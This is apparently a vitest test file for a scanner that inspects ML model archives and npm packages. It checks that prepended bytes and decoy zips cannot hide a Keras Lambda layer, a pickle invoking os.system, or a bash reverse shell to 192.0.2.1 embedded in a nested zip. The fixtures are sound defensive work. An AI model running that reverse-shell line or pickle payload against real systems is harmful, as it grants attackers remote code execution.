import { randomBytes } from 'node:crypto'
import { expect, test } from 'vitest'
import { analyseHere, rulesOf } from './analyse-here.ts'
import { tgzOf, zipOf } from './pack-archive.ts'

const config = JSON.stringify({ class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: {} }] } })
const weights = (bytes: number) => ({ name: 'model.weights.h5', content: randomBytes(bytes), isStored: true })
const keras = (bytes = 10) => zipOf([{ name: 'config.json', content: config }, weights(bytes)])
const rulesFor = async (fileName: string, ...parts: (Buffer | string)[]) =>
  rulesOf(await analyseHere({ kind: 'model', blobs: [{ fileName, bytes: Buffer.concat(parts.map((part) => Buffer.from(part))) }] }))

test.each([
  ['five bytes', 'hello', 10],
  ['the magic of another format', 'GGUF\u0003\0\0\0', 10],
  ['the beginning of a zip', 'PK\u0003\u0004', 10],
  ['a megabyte, in a file on the disk', 'x'.repeat(1_000_000), 9_000_000],
])('a zip with %s before it was not seen as one', async (_what, before, bytes) => {
  expect(await rulesFor('model.keras', before, keras(bytes))).toContain('model/keras-lambda')
})

test('a decoy directory where the real one would be without what is before it', async () => {
  const decoy = zipOf([{ name: 'fine.txt', content: 'x'.repeat(500), isStored: true }])
  expect(await rulesFor('model.keras', decoy, keras())).toContain('model/keras-lambda')
})

test.each([10, 9_000_000])('a pickle with a harmless zip behind it was seen as the zip alone (%d bytes)', async (bytes) => {
  const pickle = Buffer.from("cos\nsystem\n(S'id'\ntR.", 'latin1')
  expect(await rulesFor('weights.npz', pickle, zipOf([weights(bytes)]))).toContain('model/dangerous-global')
})

test('what has the name of a zip and is none is the file that it is, and a zip stays one', async () => {
  expect(await rulesFor('model.npz', 'version https://git-lfs.github.com/spec/v1\n')).toEqual([])
  expect(await rulesFor('model.npz', '')).toEqual([])
  expect(await rulesFor('model.npz', randomBytes(9_000_000))).toEqual([])
  expect(await rulesFor('model.keras', zipOf([{ name: 'a.txt', content: 'x' }]))).toEqual([])
  const code = "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/9 0>&1')"
  const inner = Buffer.concat([Buffer.from('#!/bin/sh\n'), zipOf([{ name: 'x.js', content: code }])])
  const bytes = await tgzOf([{ name: 'package/x.zip', content: inner }])
  expect(rulesOf(await analyseHere({ kind: 'npm', blobs: [{ bytes }] }))).toContain('code/reverse-shell')
})
